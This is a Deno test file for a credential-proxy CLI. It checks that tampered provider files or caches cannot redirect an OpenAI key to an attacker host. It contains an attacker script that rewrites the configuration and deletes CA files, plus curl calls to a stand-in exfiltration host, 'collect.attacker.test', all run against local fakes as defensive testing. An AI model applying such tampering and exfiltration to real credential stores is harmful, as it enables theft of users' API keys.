/**
 * Credentials bound to their hosts, tried as an attacker would: a program
 * running under `authsome run` rewrites what decides where the OpenAI key goes
 * (a provider file, or the provider cache keeping its entry's key), with and
 * without deleting the CA, and the next run is checked against two origins:
 * the provider's and the attacker's.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { type Origin, startOrigin } from "../scripts/fake_api.ts";
import { authsome, type CliResult, tempHome } from "./helpers/cli.ts";
import { client } from "./helpers/clients.ts";
import { CANARY, MASKED } from "./helpers/run.ts";

const curl = client("curl", "the child that talks to both origins");
const EVIL = "collect.attacker.test";
const OPENAI = JSON.parse(
  await Deno.readTextFile(new URL("../providers/openai.json", import.meta.url)),
);

/** What the attacker's child does: rewrite the provider file or the cache, maybe delete ca/. */
const ATTACKER = `
const [home, variant, deleteCa, evil] = Deno.args;
if (variant === "file") {
  const definition = JSON.parse(Deno.env.get("ATTACKER_DEFINITION"));
  await Deno.mkdir(home + "/providers", { recursive: true });
  await Deno.writeTextFile(home + "/providers/openai.json", JSON.stringify(definition));
} else {
  const file = home + "/cache/providers.json";
  const stored = JSON.parse(await Deno.readTextFile(file));
  const body = JSON.parse(stored.body);
  for (const entry of body.checked.providers) {
    if (entry.definition.name === "openai") entry.definition.api_url = ["api.openai.com", evil];
  }
  // The entry's key (and MAC) are kept: only the content changes.
  await Deno.writeTextFile(file, JSON.stringify({ ...stored, body: JSON.stringify(body) }));
}
if (deleteCa === "yes") await Deno.remove(home + "/ca", { recursive: true });
`;

interface Setup extends AsyncDisposable {
  readonly home: string;
  readonly provider: Origin;
  readonly attacker: Origin;
  run(child: readonly string[], env?: Record<string, string>): Promise<CliResult>;
  cli(...args: string[]): Promise<CliResult>;
}

async function setup(): Promise<Setup> {
  const home = await tempHome();
  const provider = await startOrigin(["api.openai.com"]);
  const attacker = await startOrigin([EVIL]);
  const login = await authsome(["login", "openai", "--key-stdin"], {
    home: home.path,
    stdin: CANARY,
  });
  assert.equal(login.code, 0, login.stderr);
  return {
    home: home.path,
    provider,
    attacker,
    run: (child, env) =>
      authsome([
        "run",
        ...provider.connectTo("api.openai.com"),
        ...attacker.connectTo(EVIL),
        "--upstream-ca",
        provider.caFile,
        "--upstream-ca",
        attacker.caFile,
        "--",
        ...child,
      ], { home: home.path, env }),
    cli: (...args) => authsome(args, { home: home.path }),
    [Symbol.asyncDispose]: async () => {
      await provider[Symbol.asyncDispose]();
      await attacker[Symbol.asyncDispose]();
      await home[Symbol.asyncDispose]();
    },
  };
}

/** Runs the attacker's steps as the child of a real `authsome run`. */
async function attack(t: Setup, variant: "file" | "cache", deleteCa: boolean): Promise<void> {
  const script = join(t.home, "..", `attacker-${crypto.randomUUID()}.ts`);
  await Deno.writeTextFile(script, ATTACKER);
  try {
    const definition = { ...OPENAI, api_url: ["api.openai.com", EVIL] };
    const result = await t.run(
      [
        Deno.execPath(),
        "run",
        "--allow-all",
        script,
        t.home,
        variant,
        deleteCa ? "yes" : "no",
        EVIL,
      ],
      { ATTACKER_DEFINITION: JSON.stringify(definition) },
    );
    assert.equal(result.code, 0, `the attacker's child failed: ${result.stderr}`);
  } finally {
    await Deno.remove(script);
  }
}

function leaked(origin: Origin): boolean {
  return JSON.stringify(origin.seen).includes(CANARY);
}

for (const deleteCa of [false, true]) {
  const ca = deleteCa ? "ca/ deleted" : "ca/ kept";
  // With ca/ kept, the old CA's name constraints leave the new host out: the attacker's own
  // child skips verification (-k). With ca/ deleted, the new CA covers it and curl verifies.
  const insecure = deleteCa ? [] : ["-k"];

  Deno.test({
    name: `a provider file naming a new host gets the child a 403, never the key (${ca})`,
    ignore: !curl,
  }, async () => {
    await using t = await setup();
    await attack(t, "file", deleteCa);

    const refused = await t.run([curl!, "-sS", ...insecure, `https://${EVIL}/v1/collect`]);
    assert.equal(refused.code, 0, refused.stderr);
    assert.equal(t.attacker.seen.length, 0, "the attacker's origin was never contacted");
    const body = JSON.parse(refused.stdout);
    assert.equal(body.error, "authsome_route_not_approved");
    for (const named of ["openai", EVIL, "authsome providers approve openai"]) {
      assert.ok(body.message.includes(named), `the 403 names ${named}: ${body.message}`);
    }
    assert.match(
      refused.stderr,
      new RegExp(
        `"openai" now declares ${EVIL} as header Authorization: Bearer \\{api_key\\}, not approved`,
      ),
    );
    assert.match(refused.stderr, new RegExp(`refused to send the "openai" credential to ${EVIL}`));
    assert.equal(refused.stderr.split(`refused to send`).length, 2, "warned once per host");

    const ok = await t.run([curl!, "-sS", "https://api.openai.com/v1/models"]);
    assert.equal(ok.code, 0, ok.stderr);
    assert.deepEqual(t.provider.seen.map((s) => s.headers.authorization), [`Bearer ${CANARY}`]);
    assert.equal(JSON.parse(ok.stdout).headers.authorization, `Bearer ${MASKED}`, "echo masked");

    const log = (await t.cli("log", "--json")).stdout.trim().split("\n").map((l) => JSON.parse(l));
    const entry = log.find((e) => e.host === EVIL);
    assert.deepEqual(
      [entry?.status, entry?.injected, entry?.error, entry?.provider],
      [403, false, "authsome_route_not_approved", "openai"],
    );

    const inspect = await t.cli("inspect", "openai");
    assert.match(inspect.stdout, /from .*providers\/openai\.json/);
    assert.match(inspect.stdout, /sealed routes: api\.openai\.com\n/);
    assert.match(inspect.stdout, new RegExp(`not approved: ${EVIL}`));
    const doctor = await t.cli("doctor");
    assert.match(doctor.stdout, new RegExp(`FAIL routes: "openai" .*\\+${EVIL}`));
    assert.match(doctor.stdout, /authsome providers approve openai/);

    const noTerminal = await t.cli("providers", "approve", "openai");
    assert.equal(noTerminal.code, 2, noTerminal.stderr);
    assert.match(noTerminal.stderr, /--yes/);
    assert.ok(noTerminal.stdout.includes(`+ ${EVIL}`), noTerminal.stdout);
    const approved = await t.cli("providers", "approve", "openai", "--yes");
    assert.equal(approved.code, 0, approved.stderr);
    assert.match(approved.stdout, /Sealed 1 connection/);

    assert.ok(!leaked(t.attacker), "nothing reached the attacker before the approval");
    const after = await t.run([curl!, "-sS", ...insecure, `https://${EVIL}/v1/collect`]);
    assert.equal(after.code, 0, after.stderr);
    assert.deepEqual(t.attacker.seen.map((s) => s.headers.authorization), [`Bearer ${CANARY}`]);
    assert.equal(JSON.parse(after.stdout).headers.authorization, `Bearer ${MASKED}`);
    assert.doesNotMatch(after.stderr, /not approved/);
  });

  Deno.test({
    name: `a provider cache entry edited keeping its key is ignored and rebuilt (${ca})`,
    ignore: !curl,
  }, async () => {
    await using t = await setup();
    await attack(t, "cache", deleteCa);
    const cacheFile = join(t.home, "cache", "providers.json");
    assert.ok((await Deno.readTextFile(cacheFile)).includes(EVIL), "the attacker's edit is there");

    // Not a route of any provider: tunnelled untouched, so the attacker's own origin answers.
    const result = await t.run([curl!, "-sS", "-k", `https://${EVIL}/v1/collect`]);
    assert.equal(result.code, 0, result.stderr);
    const seen = JSON.parse(result.stdout);
    assert.equal(seen.path, "/v1/collect", "the request reached the attacker's origin");
    assert.equal(seen.headers.authorization, undefined);
    assert.ok(!leaked(t.attacker), "no credential reached the attacker");
    assert.doesNotMatch(result.stderr, /now declares/);
    assert.ok(!(await Deno.readTextFile(cacheFile)).includes(EVIL), "the entry was rebuilt");

    const inspect = await t.cli("inspect", "openai");
    assert.match(inspect.stdout, /from bundled/);
    assert.match(inspect.stdout, /api_url: api\.openai\.com\n/);
    const approve = await t.cli("providers", "approve", "openai", "--yes");
    assert.match(approve.stdout, /already|sealed to its current routes/);
    const again = await t.run([curl!, "-sS", "-k", `https://${EVIL}/v1/collect`]);
    assert.equal(JSON.parse(again.stdout).headers.authorization, undefined);
    assert.ok(!leaked(t.attacker));
  });
}
